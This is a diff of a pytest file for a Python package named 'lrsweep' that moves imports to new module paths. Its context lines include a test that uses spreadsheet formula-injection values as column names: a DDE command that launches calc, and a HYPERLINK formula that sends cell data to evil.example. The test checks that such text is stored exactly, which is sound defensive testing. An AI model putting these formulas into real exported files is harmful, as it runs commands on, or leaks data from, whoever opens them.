@@ -4,11 +4,11 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from lrsweep.config import validate_config
-from lrsweep.data import make_synthetic
+from lrsweep.config.resolve import validate_config
 from lrsweep.errors import DataError
-from lrsweep.preprocess import load_prepared, prepare_experiment, save_prepared
-from lrsweep.store import Store
+from lrsweep.prepare.data import make_synthetic
+from lrsweep.prepare.design import load_prepared, prepare_experiment, save_prepared
+from lrsweep.store.entries import Store
 
 
 def prepare(dataset, split="none", standardize=False, root=".", **exp):
@@ -366,7 +366,7 @@ def test_a_column_with_no_training_value_cannot_be_imputed(csv):
 
 
 def test_more_folds_than_rows_of_a_class_is_refused(csv):
-    from lrsweep.preprocess import check_cv_folds
+    from lrsweep.prepare.design import check_cv_folds
 
     root = csv(frame(a=np.arange(12.0), y=[0] * 8 + [1] * 4))
     p = prepare({"source": "csv", "path": "d.csv", "target": "y"}, root=root)
@@ -517,7 +517,7 @@ def test_a_class_only_in_the_test_rows_is_refused_at_the_split(csv):
 
 def test_predict_quotes_the_columns_of_new_rows_briefly():
     from lrsweep.errors import LrsweepError
-    from lrsweep.predict import check_columns
+    from lrsweep.tools.predict import check_columns
 
     new = pd.DataFrame({"a": [1.0], ESC + "z" * 100_000: [1.0]})
     with pytest.raises(LrsweepError) as err:
@@ -538,7 +538,7 @@ def test_formula_like_text_is_kept_exact_in_the_tables_as_the_readme_says(tmp_pa
 
     from conftest import REPO, snakemake
 
-    from lrsweep.cli import main
+    from lrsweep.tools.cli import main
 
     name, label = "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")'
     rng = np.random.RandomState(1)
